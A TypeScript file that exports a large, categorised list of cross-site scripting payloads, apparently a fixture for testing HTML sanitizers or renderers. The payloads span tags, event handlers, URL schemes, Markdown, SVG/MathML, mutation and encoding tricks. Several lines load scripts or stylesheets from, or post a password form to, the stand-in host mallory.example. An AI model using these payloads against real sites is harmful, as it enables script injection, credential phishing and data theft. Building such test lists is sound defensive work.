/**
 * Texts that run a script where something takes them for more than text; each calls `alert` or `pwned` then. By what they
 * count on: tags, attributes, addresses, markup of messages, other languages in HTML, parsers that disagree, templates.
 */
const RUN = 'pwned()';

const TAGS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>alert(1)</sCrIpT>`,
  `<script src=//mallory.example/x.js></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script>${RUN}//`,
  `</script><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="https://mallory.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel="stylesheet" href="https://mallory.example/x.css">`,
  `<form action="https://mallory.example/"><input name="password"><button>Log in</button></form>`,
  `<template><script>${RUN}</script></template>`,
];

const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="alert(1)">`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img/src='x'/onerror=${RUN}//>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div onpointerenter=${RUN} style="position:fixed;inset:0">x</div>`,
  `<a href="#" onclick=${RUN}>x</a>`,
  `<p style="animation:x" onanimationstart=${RUN}>`,
  `<x contenteditable autofocus onfocus=${RUN} id=x>`,
];

const ATTRIBUTES = [
  `" onfocus="${RUN}" autofocus="`,
  `' onmouseover='${RUN}`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg onload=${RUN}>`,
  `\` onerror=${RUN} \``,
  `javascript:${RUN}`,
];

const ADDRESSES = [
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="jAvAsCrIpT:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">x</a>`,
  `https://example.org/"onmouseover="${RUN}`,
  `https://example.org/'><img src=x onerror=${RUN}>`,
  `https://javascript:${RUN}@example.org/`,
  `http://javascript:alert(1)//`,
  `www.example.org/"><script>${RUN}</script>`,
  `vbscript:${RUN} data:text/html,<script>${RUN}</script>`,
];

const MARKUP = [
  `[x](javascript:${RUN})`,
  `![x](x "onerror=${RUN}")`,
  `![x"onerror="${RUN}](x)`,
  `<javascript:${RUN}>`,
  `*_<b onclick=${RUN}>_*`,
  `\`<script>${RUN}</script>\``,
  `\`\`\`\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `*<img src=x onerror=${RUN}>* _https://example.org/*"onclick=${RUN}*_`,
];

const OTHER_LANGUAGES = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><foreignObject><iframe onload=${RUN}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x'><script>${RUN}</script></svg>#x">`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<style>@import "javascript:${RUN}";</style>`,
  `<style>*{background:url("https://mallory.example/?leak")}</style>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
];

/** What is harmless as it is written, until something reads it, writes it out and reads it once more. */
const MUTATING = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<select><template><script>${RUN}</script></template></select>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
];

const CHARACTERS = [
  `＜script＞${RUN}＜/script＞`,
  `\u202e>tpircs/<()denwp>tpircs<`,
  `<\u200bscript>${RUN}</\u200bscript>`,
  `<scr\u0000ipt>${RUN}</script>`,
  `\ufeff<script>${RUN}</script>`,
  `\u2028${RUN}//`,
  `<img src=x onerror\u000b=${RUN}>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
  `';${RUN};'`,
  `");${RUN};//`,
  `</script><script type=module>import("data:text/javascript,${RUN}")</script>`,
];

export const XSS_PAYLOADS: readonly string[] = [
  ...TAGS,
  ...HANDLERS,
  ...ATTRIBUTES,
  ...ADDRESSES,
  ...MARKUP,
  ...OTHER_LANGUAGES,
  ...MUTATING,
  ...CHARACTERS,
  ...TEMPLATES,
];
